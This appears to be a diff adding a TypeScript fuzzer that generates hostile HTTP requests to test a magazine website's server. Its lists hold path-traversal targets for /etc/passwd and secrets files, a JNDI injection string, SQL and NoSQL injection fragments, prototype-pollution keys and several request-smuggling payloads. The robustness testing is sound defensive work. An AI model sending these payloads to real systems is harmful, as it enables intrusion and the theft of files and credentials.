@@ -1,0 +1,373 @@
+import { createRandom, type Random } from './random.ts';
+
+/** Bytes that somebody who means ill might send, and which family they belong to. */
+export type Hostile = { family: string; bytes: Buffer };
+
+const HOST = 'Host: magazine.example\r\n';
+const SEED = 20_260_101;
+
+/** Pieces that parsers, decoders and file systems have stumbled over. */
+const PIECES = [
+  '%',
+  '%f',
+  '%ff',
+  '%00',
+  '%0a',
+  '%0d%0a',
+  '%c0%af',
+  '%c1%9c',
+  '%e0%80%af',
+  '%ed%a0%80',
+  '%f8%80%80%80',
+  '%u0000',
+  '%25',
+  '%2525',
+  '%2f',
+  '%5c',
+  '%2e%2e',
+  '..',
+  '.',
+  '...',
+  '/',
+  '//',
+  '///',
+  '\\',
+  '..;',
+  ';',
+  ';a=b',
+  '?',
+  '??',
+  '&',
+  '=',
+  '#',
+  '@',
+  ':',
+  ':80',
+  '[',
+  ']',
+  '[::1]',
+  '{',
+  '}',
+  '|',
+  '^',
+  '`',
+  '"',
+  "'",
+  '<',
+  '>',
+  '*',
+  '~',
+  '$',
+  '!',
+  '(',
+  ')',
+  '+',
+  ',',
+  'http://',
+  'https://evil.example',
+  'file:///etc/passwd',
+  'javascript:alert(1)',
+  '\x80',
+  '\xff',
+  '\xc3',
+  '\xe2\x80\xae',
+  '\x7f',
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  '\x24{jndi:ldap://evil.example/a}',
+  '{{7*7}}',
+  "' OR 1=1--",
+  '$ne',
+  '[$ne]',
+  'NaN',
+  '-1',
+  '0',
+  '1e309',
+  '9999999999999999999',
+  '%F0%9F%92%A9',
+  'İ',
+  '\u0000',
+] as const;
+
+const ROUTES = [
+  '/',
+  '/home',
+  '/article/',
+  '/article/x/',
+  '/search',
+  '/search?',
+  '/search?keywords=',
+  '/api/',
+  '/api/articles',
+  '/api/articles?',
+  '/api/site?',
+  '/assets/',
+  '/uploads/',
+  '/healthz',
+  '/readyz',
+  '/error',
+  '/.well-known/',
+  '/admin',
+  '/graphql',
+] as const;
+
+const PARAMETERS = [
+  'keywords',
+  'categories',
+  'tags',
+  'dossiers',
+  'sort',
+  'page',
+  'populate',
+  'populate[0]',
+  'filters[title][$containsi]',
+  'filters[$or][0][categories][name][$containsi][0]',
+  'pagination[page]',
+  'pagination[pageSize]',
+  '__proto__',
+  'constructor[prototype]',
+  'status',
+  '_q',
+  'a',
+] as const;
+
+const METHODS = [
+  'POST',
+  'PUT',
+  'DELETE',
+  'PATCH',
+  'OPTIONS',
+  'TRACE',
+  'CONNECT',
+  'PROPFIND',
+  'HEAD',
+  'PURGE',
+  'BREW',
+  'get',
+  'G\x00T',
+  'M-SEARCH',
+  'LINK',
+];
+
+const TARGETS = [
+  '//',
+  '///',
+  '/%',
+  '/%ff',
+  '/%00',
+  'http://[',
+  'http://[::1',
+  'http://evil.example/',
+  'https://evil.example:99999/',
+  '//evil.example/%2f..',
+  '/.//evil.example',
+  '/\\evil.example',
+  '/./%2e/',
+  '*',
+  '',
+  '?',
+  '#',
+  'evil',
+  'evil.example:80',
+  '/a b',
+  '/\x00',
+  '/\t',
+  '/\x80\x81',
+  '/a\rb',
+  '/%E0%A4%A',
+  'http:///',
+  'http:',
+  '@evil',
+  'ftp://x/',
+  '/..',
+  '/../../../etc/passwd',
+  '/%2e%2e%2f%2e%2e%2fetc%2fpasswd',
+  '/assets/../server/main.ts',
+  '/assets/..%2f..%2fpackage.json',
+  '/assets/%2e%2e/%2e%2e/package.json',
+  '/uploads/..%2f..%2fdata.db',
+  '/uploads/%2e%2e%2f%2e%2e%2f%2e%2e%2fsecrets.json',
+  '/uploads/%00.png',
+  '/assets//etc/passwd',
+  '/assets/.vite/manifest.json',
+  '/uploads/',
+  '/assets/',
+] as const;
+
+/** What comes with a request to a good address. */
+const HEADERS = [
+  'Accept-Encoding: br;q=x, gzip;q=-1, *;q=0, ,,,;;;=',
+  'Accept-Encoding: \x00',
+  'If-None-Match: *',
+  `If-None-Match: ${'"a",'.repeat(1500)}`,
+  'If-Modified-Since: 99/99/99',
+  'Range: bytes=0-0,1-1,2-2',
+  'Range: bytes=-1,0-,99999999999-',
+  'Range: x',
+  'Expect: 100-continue',
+  'Expect: the spanish inquisition',
+  'Upgrade: websocket\r\nConnection: Upgrade',
+  'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__',
+  'Connection: close, keep-alive, x',
+  'Connection: Host',
+  'Authorization: Bearer ',
+  `Authorization: Bearer ${'A'.repeat(8000)}`,
+  'Authorization: Basic Og==',
+  'Cookie: a=b; __proto__=1',
+  `Cookie: ${'c=d; '.repeat(2000)}`,
+  'Host: a\r\nHost: b',
+  'Host: ',
+  'Host: [',
+  'Host: evil.example:99999',
+  'Content-Length: 0',
+  'Content-Length: -1',
+  'Content-Length: 99999999999999999999',
+  'Content-Length: 5\r\nContent-Length: 6',
+  'Transfer-Encoding: chunked',
+  'Transfer-Encoding: xchunked',
+  'Transfer-Encoding: gzip',
+  'TE: trailers',
+  'X: a\r\n b',
+  'X: a\nY: b',
+  'X : a',
+  ': a',
+  'X',
+  'X\x00: a',
+  'X: \x01',
+  'X: \x80\xff',
+  'Accept: */*;q=1e999',
+  'Accept-Language: \u00ff',
+  'Sec-Fetch-Dest: \x7f',
+  'Proxy-Connection: keep-alive',
+  'Keep-Alive: timeout=99999999',
+  'Trailer: Content-Length',
+] as const;
+
+/** What is no HTTP, or hides a second request in a first one. */
+const NO_HTTP: readonly (string | Buffer)[] = [
+  'GET /\r\n',
+  'GET / HTTP/0.9\r\n\r\n',
+  'GET / HTTP/1.0\r\n\r\n',
+  'GET / HTTP/2.0\r\n\r\n',
+  'GET / HTTP/9.9\r\n\r\n',
+  'GET / HTTP/1.\r\n\r\n',
+  'GET / HTP/1.1\r\n\r\n',
+  'GET  / HTTP/1.1\r\n\r\n',
+  ' GET / HTTP/1.1\r\n\r\n',
+  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
+  '\r\n\r\n\r\n',
+  '\n',
+  'GET / HTTP/1.1\n\n',
+  `GET / HTTP/1.1\r\n\r\n`,
+  Buffer.from('160301020001000', 'hex'),
+  Buffer.from('1603010200010001fc0303', 'hex'),
+  Buffer.alloc(4096, 0),
+  Buffer.alloc(4096, 0xff),
+  'SSH-2.0-OpenSSH_9.9\r\n',
+  'EHLO evil.example\r\n',
+  '*1\r\n$4\r\nPING\r\n',
+  '{"jsonrpc":"2.0"}\r\n\r\n',
+  'USER a\r\nPASS b\r\n',
+  `GET / HTTP/1.1\r\n${'\r\n'.repeat(50)}`,
+];
+
+/** An address behind a request: if it is answered, somebody read one request as two. */
+const HIDDEN = 'GET /hidden HTTP/1.1\r\nHost: x\r\n\r\n';
+const SMUGGLED = [
+  `POST / HTTP/1.1\r\n${HOST}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
+  `POST / HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n5c\r\n${HIDDEN}\r\n0\r\n\r\n`,
+  `GET / HTTP/1.1\r\n${HOST}Transfer-Encoding: xchunked\r\n\r\n${HIDDEN}`,
+  `GET / HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n${HIDDEN}`,
+  `GET / HTTP/1.1\r\n${HOST}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
+  `GET / HTTP/1.1\r\n${HOST}Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
+  `GET / HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n${HIDDEN}`,
+  `GET / HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n${HIDDEN}`,
+  `GET / HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\n${HIDDEN}`,
+  `GET / HTTP/1.1\r\n${HOST}Content-Length: 0\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
+  `GET / HTTP/1.1\r\n${HOST}Content-Length: ${HIDDEN.length}, 0\r\n\r\n${HIDDEN}`,
+  `GET / HTTP/1.1\r\n${HOST}Content-Length: +${HIDDEN.length}\r\n\r\n${HIDDEN}`,
+  `GET / HTTP/1.1\r\n${HOST}Content-Length: -1\r\n\r\n${HIDDEN}`,
+  `GET / HTTP/1.1\r\n${HOST}Content-Length: 0x10\r\n\r\n${HIDDEN}`,
+  `GET / HTTP/1.1\r\n${HOST}Content-Length:\r\n ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
+  `GET / HTTP/1.1\r\n${HOST}X: y\rTransfer-Encoding: chunked\r\n\r\n${HIDDEN}`,
+  `GET / HTTP/1.1\r\n${HOST}X: y\nContent-Length: 99\r\n\r\n${HIDDEN}`,
+  `GET / HTTP/1.1\r\n${HOST}Content-Length\x00: 99\r\n\r\n${HIDDEN}`,
+] as const;
+
+export const smuggled: readonly Buffer[] = SMUGGLED.map((text) => Buffer.from(text, 'latin1'));
+
+/** Hostile requests without end, in the same order in every run. */
+export function* hostileRequests(publicToken: string): Generator<Hostile> {
+  const random = createRandom(SEED);
+  const fixed: Hostile[] = [
+    ...TARGETS.map((target) => ({ family: 'target', bytes: get(target) })),
+    ...HEADERS.map((header) => ({ family: 'header', bytes: get('/', `${header}\r\n`) })),
+    ...METHODS.map((method) => ({ family: 'method', bytes: get('/', '', method) })),
+    ...NO_HTTP.map((bytes) => ({
+      family: 'no HTTP',
+      bytes: Buffer.isBuffer(bytes) ? bytes : Buffer.from(bytes, 'latin1'),
+    })),
+    ...[2_000, 8_000, 15_900, 16_400, 60_000].map((length) => ({
+      family: 'long',
+      bytes: get(`/${'a'.repeat(length)}`),
+    })),
+    ...[100, 1_000, 2_500].map((count) => ({
+      family: 'many headers',
+      bytes: get('/', 'X: y\r\n'.repeat(count)),
+    })),
+  ];
+  yield* fixed;
+
+  const families: readonly ((random: Random) => Hostile)[] = [
+    (draw) => ({ family: 'path', bytes: get(draw.pick(ROUTES) + pieces(draw)) }),
+    (draw) => ({ family: 'path', bytes: get(`/${pieces(draw)}`) }),
+    (draw) => ({ family: 'article', bytes: get(`/article/${pieces(draw)}/${pieces(draw)}`) }),
+    (draw) => ({
+      family: 'query',
+      bytes: get(`${draw.pick(['/', '/home', '/nowhere', '/article/x/y'])}?${query(draw)}`),
+    }),
+    (draw) => ({ family: 'search', bytes: get(`/search?${query(draw)}`) }),
+    (draw) => ({
+      family: 'content',
+      bytes: get(
+        `${draw.pick(['/api/articles', '/api/tags', '/api/home', '/api/x', '/api/articles/x'])}?${query(draw)}`,
+        `Authorization: Bearer ${publicToken}\r\n`,
+      ),
+    }),
+    (draw) => ({
+      family: 'file',
+      bytes: get(draw.pick(['/assets/', '/uploads/', '/assets/../', '/uploads/%2e%2e/']) + pieces(draw)),
+    }),
+    (draw) => ({ family: 'header', bytes: get(draw.pick(ROUTES), `${draw.pick(HEADERS)}\r\n`) }),
+    (draw) => ({
+      family: 'method',
+      bytes: get(draw.pick(ROUTES), draw.pick(['', 'Content-Length: 3\r\n']), draw.pick(METHODS)),
+    }),
+    (draw) => ({ family: 'absolute', bytes: get(`http://${pieces(draw)}/${pieces(draw)}`) }),
+  ];
+  while (true) yield random.pick(families)(random);
+}
+
+function get(target: string, headers = '', method = 'GET'): Buffer {
+  return Buffer.from(
+    `${method} ${target} HTTP/1.1\r\n${/^host:/im.test(headers) ? '' : HOST}${headers}\r\n`,
+    'latin1',
+  );
+}
+
+function pieces(random: Random): string {
+  return Array.from({ length: 1 + random.below(5) }, () =>
+    random.below(3) === 0
+      ? random.text('abcdefghijklmnopqrstuvwxyz0123456789-', 1 + random.below(12))
+      : random.pick(PIECES),
+  ).join('');
+}
+
+function query(random: Random): string {
+  return Array.from(
+    { length: 1 + random.below(4) },
+    () => `${random.pick(PARAMETERS)}=${pieces(random)}`,
+  ).join('&');
+}
